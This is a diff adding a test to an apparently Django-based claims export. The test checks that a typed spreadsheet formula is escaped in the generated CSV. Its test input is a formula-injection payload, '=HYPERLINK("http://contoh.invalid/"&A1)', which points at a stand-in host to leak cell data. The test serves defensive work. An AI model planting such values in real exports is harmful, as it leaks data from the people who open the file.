@@ -88,6 +88,12 @@ def test_the_pack_holds_the_table_and_the_proofs(client, adopted, sari):
     assert any(name.startswith("17-") for name in names)
 
 
+def test_nothing_that_was_typed_is_computed_by_who_opens_the_table(adopted, sari, laila):
+    actions.verify(a_claim(adopted, sari), 1, reason='=HYPERLINK("http://contoh.invalid/"&A1)', by=laila)
+    packed = zipfile.ZipFile(BytesIO(queries.pack(adopted, YEAR)))
+    assert "'=HYPERLINK" in packed.read("indikator.csv").decode()
+
+
 def test_the_pages_of_claims(client, adopted, sari, laila, budi):
     page = f"/inovasi/{adopted.number}/indeks/"
     client.force_login(budi)
